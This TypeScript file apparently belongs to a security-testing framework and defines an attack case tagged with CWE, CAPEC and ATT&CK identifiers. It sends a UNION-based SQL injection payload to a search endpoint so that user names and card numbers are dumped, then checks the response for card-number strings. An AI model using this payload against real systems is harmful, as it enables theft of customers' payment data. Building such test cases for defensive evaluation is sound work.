import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { query } from '../../visitor/visitor.ts'

/** Takes the whole table of customers with their card numbers in one answer. */
export const exfilCustomersPage: Attack = defineAttack({
  id: 'exfil-customers-page',
  class: 'exfiltration',
  title: 'Takes the whole table of customers with their card numbers in one answer',
  cwe: 200,
  capec: 118,
  technique: 'T1213',
  preconditions: [],

  steps: ({ visitor }) =>
    visitor.get(`/search${query({ q: "zz' UNION SELECT id,name||'|'||card,role,0,'' FROM users--" })}`),
  oracle: async (answer, { witness }) => {
    const { users } = await witness.state()
    const cards = answer.text.match(/\|\d{15,16}/g) ?? []
    return users.every(({ name }) => answer.text.includes(`${name}|`)) && cards.length >= 3
  },
  twin: ({ visitor }) => visitor.get(`/search${query({ q: 'tents | mats | all of them' })}`),
})
